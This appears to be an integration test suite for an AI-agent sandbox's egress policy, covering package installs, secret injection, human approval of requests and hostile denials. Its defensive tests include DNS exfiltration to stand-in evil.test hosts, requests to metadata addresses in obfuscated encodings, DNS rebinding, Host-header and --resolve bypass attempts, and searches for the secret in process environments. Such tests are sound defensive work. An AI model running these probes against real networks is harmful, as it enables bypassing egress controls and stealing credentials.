"""What a policy's [[egress]] lets programs in a sandbox reach: npm, pip, git and curl as they are, without proxy settings, to hosts of a small internet of
the suite's own; secrets that are added outside; questions, denials, and what nobody reaches."""
import json
import os
import pathlib
import shutil
import subprocess
import tempfile
import unittest

from allowed_hosts import METADATA, OTHER, OWN, PRIVATE, World, enter
from harness import Case, Server, main

SECRET = "word-7c1f09ab55e2-of-the-api"
POLICIES = {
    "packages": """
[[egress]]
id = "npm"
host = "registry.npmjs.org"
method = ["GET", "HEAD"]
[[egress]]
id = "pip"
host = ["pypi.org", "files.pythonhosted.org"]
[[egress]]
id = "clone"
host = "git.example.com"
path = ["/team/*/info/refs", "/team/*/git-upload-pack"]
[[egress]]
id = "plain"
host = "plain.example.com"
scheme = "http"
""",
    "api": """
[[egress]]
id = "deploy"
host = "api.example.com"
method = "POST"
path = "/deploy"
secret = "api"
verdict = "ask"
[[egress]]
id = "api"
host = "api.example.com"
method = "GET"
secret = "api"
[[egress]]
id = "bad"
host = "evil.example.com"
verdict = "deny"
reason = "Nobody goes there"
[[egress]]
id = "rest"
host = "*.example.com"
scheme = "http"
[[egress]]
id = "rebound"
host = "rebound.test"
scheme = "http"
""",
    "carried": '[[egress]]\nid = "api"\nhost = "api.example.com"\n',
    "asks": '[[egress]]\nid = "connection"\nhost = "api.example.com"\nverdict = "ask"\n',
    "lost": '[[egress]]\nhost = "api.example.com"\nsecret = "lost"\n',
    "tries": 'mode = "dry-run"\n[[egress]]\nhost = "api.example.com"\n',
}
CONFIG = """
[policy]
dir = "{policies}"
[egress]
private_hosts = ["tools.example.com"]
ca_file = "{ca}"
[secrets.api]
host = "api.example.com"
value_file = "{secret}"
paths = ["/**"]
"""
CURL = "curl -sS --max-time 20"


@unittest.skipIf(os.geteuid() != 0, "makes a network namespace of its own, which needs root")
class Egress(Case):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.folder = pathlib.Path(tempfile.mkdtemp(prefix="agentrouter-egress-"))
        cls.folder.chmod(0o755)
        repositories = cls.folder / "repositories"
        git = lambda *words, at=repositories: subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b", *words], cwd=at, check=True, capture_output=True)
        (repositories / "team").mkdir(parents=True)
        git("init", "--bare", "-b", "main", "team/tool.git")
        git("clone", "team/tool.git", "work")
        (repositories / "work/README").write_text("cloned from afar\n")
        for words in (("add", "README"), ("commit", "-m", "first"), ("push", "origin", "HEAD:main")):
            git(*words, at=repositories / "work")
        cls.world = World(repositories, SECRET)
        cls.addClassCleanup(cls.world.close)
        cls.policies = cls.folder / "policies"
        cls.policies.mkdir()
        for name, text in POLICIES.items():
            (cls.policies / f"{name}.toml").write_text(text)
        (cls.folder / "secret").write_text(SECRET + "\n")
        (cls.folder / "secret").chmod(0o600)
        (cls.folder / "server.toml").write_text(CONFIG.format(policies=cls.policies, ca=cls.world.ca_file, secret=cls.folder / "secret"))
        cls.server = Server(args=("--sim", "--concurrency", "4", "--config", str(cls.folder / "server.toml"))).start()

    @classmethod
    def tearDownClass(cls):
        cls.server.stop()
        cls.server.remove_data()
        shutil.rmtree(cls.folder)
        super().tearDownClass()

    def create(self, policy, *scripts, **fields):
        """One call of the agent for each script."""
        task = "".join(f"sim: sh {script}\n" for script in scripts) + "sim: reply Done."
        return self.server.create(task, **({"policy": policy} if policy else {}), **fields)["id"]

    def ended(self, run):
        record, events = self.server.finish(run)
        self.assertEqual(record["status"], "completed", record.get("failure"))
        outputs = [event["payload"].get("output", "") for event in events if event["type"] == "agent.tool_completed"]
        requests = [event["payload"] for event in events if event["type"] == "egress.request" and event["payload"].get("purpose") == "network"]
        return outputs, requests, events

    @staticmethod
    def told(requests, **wanted):
        return [request for request in requests if all(request.get(key) == value for key, value in wanted.items())]

    def test_npm_pip_git_and_curl_work_as_they_are_where_they_are_allowed(self):
        run = self.create(
            "packages",
            "npm install --no-audit --no-fund padding @team/padding 2>&1 | tail -3; node -p 'require(\"padding\")(\"a\") + require(\"@team/padding\")(\"b\")'",
            "python3 -m pip install -q --disable-pip-version-check --no-cache-dir --break-system-packages --target lib sumsum 2>&1; PYTHONPATH=lib python3 -c 'import sumsum; print(sumsum.add(40, 2))'",
            "git clone -q https://git.example.com/team/tool.git tool && cat tool/README && cd tool && git -c user.name=a -c user.email=a@b commit -qm more --allow-empty && git push origin HEAD:main; echo pushed $?",
            f"{CURL} -w '%{{http_code}} ' http://plain.example.com/; {CURL} -X PUT -w '%{{http_code}}' -o /dev/null https://registry.npmjs.org/padding",
            "env | grep -ci '^https*_proxy='; env | grep -o '^[A-Z_]*=/etc/ssl/certs/[a-z-]*[.][a-z]*' | sort | tr '\\n' ' '")
        (npm, pip, git, curl, environment), requests, _ = self.ended(run)
        self.assertIn("padded apadded b", npm)
        self.assertEqual(pip.strip(), "42")
        self.assertIn("cloned from afar", git)
        self.assertRegex(git, r"403|requested URL returned error")
        self.assertIn("pushed 1", git.replace("pushed 128", "pushed 1"))
        self.assertEqual(curl.strip(), "this is plain.example.com\n200 403")
        self.assertEqual(environment.split(), ["0", "CARGO_HTTP_CAINFO=/etc/ssl/certs/ca-certificates.crt", "CURL_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt",
                                               "GIT_SSL_CAINFO=/etc/ssl/certs/ca-certificates.crt", "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/agentrouter.pem",
                                               "PIP_CERT=/etc/ssl/certs/ca-certificates.crt", "REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt",
                                               "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt"])
        self.assertNotIn("git-receive-pack", [entry["path"].rpartition("/")[2] for entry in self.world.to("git.example.com") if entry["method"] == "POST"])
        self.assertNotIn("PUT", [entry["method"] for entry in self.world.to("registry.npmjs.org")])
        seen = self.told(requests, host="registry.npmjs.org", method="GET", path="/padding", decision="forwarded", rule="npm", scheme="https", port=443)
        self.assertTrue(seen and seen[0]["status"] == 200 and seen[0]["bytesIn"] > 0, requests)
        self.assertTrue(self.told(requests, host="pypi.org", method="CONNECT", decision="forwarded", rule="pip"), requests)
        self.assertTrue(self.told(requests, host="git.example.com", method="POST", decision="denied", reason="policy_denied"), requests)
        self.assertTrue(self.told(requests, host="registry.npmjs.org", method="PUT", decision="denied", status=403), requests)

    def test_a_secret_is_added_outside_and_never_inside(self):
        before = len(self.world.seen)
        half = f"{SECRET[:9]}''{SECRET[9:]}"
        run = self.create("api", f"{CURL} -H 'Authorization: mine' https://api.example.com/whoami",
                          f"{CURL} https://api.example.com/echo 2>&1; echo; {CURL} https://api.example.com/encoded 2>&1",
                          f"for word in {half}; do env | grep -c $word; printf %s $word | grep -rlf - /workspace /home/agent /tmp /etc /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | wc -l; done",
                          f"{CURL} -w '%{{http_code}}' -X DELETE https://api.example.com/whoami; {CURL} -w ' %{{http_code}}' -o /dev/null -L https://api.example.com/away 2>&1")
        (known, echo, inside, other), requests, events = self.ended(run)
        self.assertEqual(known, "known")
        self.assertNotIn(SECRET, echo)
        self.assertNotIn("and behind", echo)
        self.assertEqual(inside.split()[-1], "0")
        self.assertIn("403", other)
        self.assertEqual(self.world.to("evil.example.com"), [])
        self.assertEqual({entry["authorization"] for entry in self.world.seen[before:] if entry["path"] in ("/whoami", "/echo")}, {f"Bearer {SECRET}"})
        self.assertEqual(len(self.told(requests, reason="secret_echo")), 2, requests)
        self.assertNotIn(SECRET, json.dumps(events))
        shown = subprocess.run([os.environ["AGENTROUTER_PROGRAM"], "serve", "--config", str(self.folder / "server.toml"), "--print-config"], capture_output=True, text=True).stdout
        self.assertIn("[secrets.api]", shown)
        self.assertNotIn(SECRET, shown)

    def test_what_a_rule_asks_about_goes_through_once_when_a_person_approves(self):
        post = f"{CURL} -w ' %{{http_code}}' -d a=1 https://api.example.com/deploy?now=1"
        run = self.create("api", post, post)
        for decision in ("approve", "deny"):
            events = self.server.wait_until(run, lambda e: e["type"] == "approval.requested" and e["payload"]["actionId"] not in getattr(self, "decided", ()))
            question = events[-1]["payload"]
            proposed = next(e["payload"] for e in events if e["type"] == "action.proposed" and e["payload"]["actionId"] == question["actionId"])
            body = json.dumps(proposed)
            for word in ("api.example.com", "/deploy", "a=1", "network"):
                self.assertIn(word, body)
            self.assertNotIn(SECRET, body)
            arrived = len([entry for entry in self.world.to("api.example.com") if entry["path"].startswith("/deploy")])
            self.assertEqual(arrived, 0 if decision == "approve" else 1)
            self.decided = [*getattr(self, "decided", ()), question["actionId"]]
            self.server.call("POST", f"/v1/runs/{run}/actions/{question['actionId']}/approve", {"actionDigest": "sha256:" + "0" * 64}, expect=(409,))
            self.server.call("POST", f"/v1/runs/{run}/actions/{question['actionId']}/{decision}",
                             {"actionDigest": question["actionDigest"], **({"reason": "not twice"} if decision == "deny" else {})})
        (first, second), requests, events = self.ended(run)
        self.assertEqual(first, "known 200")
        self.assertIn("403", second)
        self.assertIn("not twice", second)
        deploys = [entry for entry in self.world.to("api.example.com") if entry["path"].startswith("/deploy")]
        self.assertEqual([(entry["body"], entry["path"]) for entry in deploys], [(b"a=1", "/deploy?now=1")])
        self.assertEqual([(request["decision"], request.get("actionId")) for request in requests],
                         [("forwarded", self.decided[0]), ("denied", self.decided[1])])
        verdicts = [e["payload"] for e in events if e["type"] == "policy.evaluated" and e["payload"].get("tool") == "network"]
        self.assertEqual([(verdict["ruleId"], verdict["decision"]) for verdict in verdicts], [("deploy", "requires_approval")] * 2)

    def test_a_connection_that_is_only_carried_can_be_asked_about(self):
        run = self.create("asks", f"{CURL} https://api.example.com/whoami")
        question = self.server.wait_until(run, lambda e: e["type"] == "approval.requested")[-1]["payload"]
        self.server.call("POST", f"/v1/runs/{run}/actions/{question['actionId']}/approve", {"actionDigest": question["actionDigest"]})
        (output,), requests, _ = self.ended(run)
        self.assertEqual(output, "unknown")
        self.assertEqual([(request["method"], request["decision"], request["actionId"]) for request in requests],
                         [("CONNECT", "forwarded", question["actionId"])])

    def test_what_no_rule_opens_reaches_nobody(self):
        self.world.names["rebound.test"] = ["93.184.215.10", PRIVATE]
        code = f"{CURL} -o /dev/null -w '%{{http_code}}'"
        asks = ("import socket", "q=b'\\\\x12\\\\x34\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0\\\\5words\\\\4evil\\\\4test\\\\0\\\\0\\\\1\\\\0\\\\1'",
                "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)", "s.connect(('9.9.9.9',53))", "s.settimeout(9)", "s.send(q)", "s.recv(9)")
        run = self.create(
            "api",
            f"for host in secret-words.evil.test evil.example.net; do {code} http://$host/ 2>&1; echo; done; getent hosts more-words.evil.test; python3 -c \"{';'.join(asks)}\" 2>&1 | tail -1",
            f"for url in http://{METADATA}/ http://{PRIVATE}/ http://{OTHER}/ http://metadata.example.com/ http://intern.example.com/ http://local.example.com/ http://own.example.com/ http://evil.example.com/ "
            f"http://0xa9fea9fe/ http://2852039166/ http://[::ffff:169.254.169.254]/ ; do {code} $url 2>/dev/null; echo; done; {CURL} http://tools.example.com/",
            f"{CURL} http://rebound.test/; {code} http://rebound.test/ 2>&1",
            f"{code} -H 'Host: evil.example.com' http://tools.example.com/; {code} --connect-to api.example.com:443:tools.example.com:443 https://api.example.com/ 2>&1; "
            f"{code} --resolve evil.example.com:80:$(getent ahostsv4 tools.example.com | head -1 | cut -d' ' -f1) http://evil.example.com/")
        beside = self.create(None, f"{CURL} https://api.example.com/ 2>&1; {CURL} http://127.83.1.2/ 2>&1")
        (names, addresses, rebound, fronted), requests, _ = self.ended(run)
        self.assertEqual([name for name in self.world.asked if "evil.test" in name or "example.net" in name], [])
        self.assertEqual(names.count("Could not resolve host"), 2, names)
        self.assertRegex(names.splitlines()[-1], "refused")
        self.assertEqual(set(addresses.split("\n")[:-2]) - {"000", "403", "502"}, set(), addresses)
        self.assertIn("this is tools.example.com", addresses)
        self.assertEqual([self.world.reached(address) for address in (METADATA, OTHER, OWN)], [[], [], []])
        self.assertEqual({entry["host"] for entry in self.world.reached(PRIVATE)}, {"tools.example.com"})
        self.assertIn("this is rebound.test", rebound)
        self.assertRegex(rebound.splitlines()[-1], "403|502")
        self.assertNotIn("200", fronted)
        self.assertEqual(self.world.to("evil.example.com"), [])
        for reason in ("name_denied", "address_unknown", "address_denied", "policy_denied", "host_mismatch"):
            self.assertTrue(self.told(requests, decision="denied", reason=reason), (reason, requests))
        (output,), nothing, _ = self.ended(beside)
        self.assertRegex(output, "Could not resolve host")
        self.assertEqual(nothing, [])

    def test_a_policy_that_becomes_stricter_counts_at_once(self):
        run = self.create("api", f"{CURL} https://api.example.com/whoami", f"{CURL} -d a=2 -o /dev/null https://api.example.com/deploy",
                          f"{CURL} -w ' %{{http_code}}' https://api.example.com/whoami; {CURL} http://tools.example.com/ 2>&1")
        question = self.server.wait_until(run, lambda e: e["type"] == "approval.requested")[-1]["payload"]
        new = self.policies / ".new"
        new.write_text('[[egress]]\nid = "only"\nhost = "tools.example.com"\nscheme = "http"\n')
        new.rename(self.policies / "api.toml")
        try:
            self.server.wait_until(run, lambda e: e["type"] == "policy.tightened")
            (first, _, third), requests, events = self.ended(run)
        finally:
            new.write_text(POLICIES["api"])
            new.rename(self.policies / "api.toml")
        self.assertEqual(first, "known")
        self.assertNotIn("known", third)
        self.assertIn("this is tools.example.com", third)
        self.assertEqual([e["payload"]["actionId"] for e in events if e["type"] == "approval.withdrawn"], [question["actionId"]])
        self.assertEqual([entry for entry in self.world.to("api.example.com") if entry["body"] == b"a=2"], [])

    def test_what_cannot_be_is_said_before_anything_runs(self):
        status, _, body = self.server.request("POST", "/v1/runs", {"task": "sim: reply x", "policy": "lost"})
        self.assertEqual((status, json.loads(body)["error"]["code"]), (400, "secret_unknown"), body)
        run = self.create("tries", f"{CURL} https://api.example.com/ 2>&1")
        self.assertRegex(self.ended(run)[0][0], "Could not resolve host")
        explain = subprocess.run([os.environ["AGENTROUTER_PROGRAM"], "policy", "explain", "--policy", str(self.policies / "api.toml"), "--url",
                                  "https://api.example.com/whoami"], capture_output=True, text=True)
        self.assertRegex(explain.stdout, r"egress: allow by api of api: .*\n  the connection is looked into, with the secret api added")

    def test_traffic_counts_and_ends_the_run_at_its_limit(self):
        run = self.create("carried", f"for i in 1 2 3; do {CURL} -o /dev/null https://api.example.com/big; done; sleep 60", limits={"maxNetworkBytes": 1_500_000})
        record, _ = self.server.finish(run)
        self.assertEqual((record["status"], record["failure"]["code"]), ("failed", "limit_exceeded"), record)

    def test_a_plain_users_sandbox_has_it_too(self):
        data = pathlib.Path(tempfile.mkdtemp(prefix="agentrouter-egress-user-"))
        os.chown(data, 20001, 20001)
        config = data / "server.toml"
        config.write_text(CONFIG.format(policies=self.policies, ca=self.world.ca_file, secret=data / "secret"))
        (data / "secret").write_text(SECRET)
        self.world.folder.chmod(0o755)
        for path in (config, data / "secret"):
            os.chown(path, 20001, 20001)
        agents = data / "agents"  # which may lie where only root comes to
        agents.mkdir()
        subprocess.run(["mount", "--bind", os.environ.get("AGENTROUTER_AGENTS_DIR", "/opt/agentrouter/agents"), str(agents)], check=True)
        self.addCleanup(subprocess.run, ["umount", str(agents)], check=True)
        with Server(data=data / "data", user=20001, agents_dir=agents, args=("--sim", "--config", str(config))) as server:
            run = server.create(f"sim: sh {CURL} https://api.example.com/whoami; {CURL} http://metadata.example.com/ -o /dev/null -w ' %{{http_code}}'\nsim: reply Done.", policy="api")["id"]
            record, events = server.finish(run)
            self.assertEqual(record["status"], "completed", record.get("failure"))
            self.assertEqual([e["payload"]["output"] for e in events if e["type"] == "agent.tool_completed"], ["known 502"])
        shutil.rmtree(data / "data")


if __name__ == "__main__":
    enter()
    main()
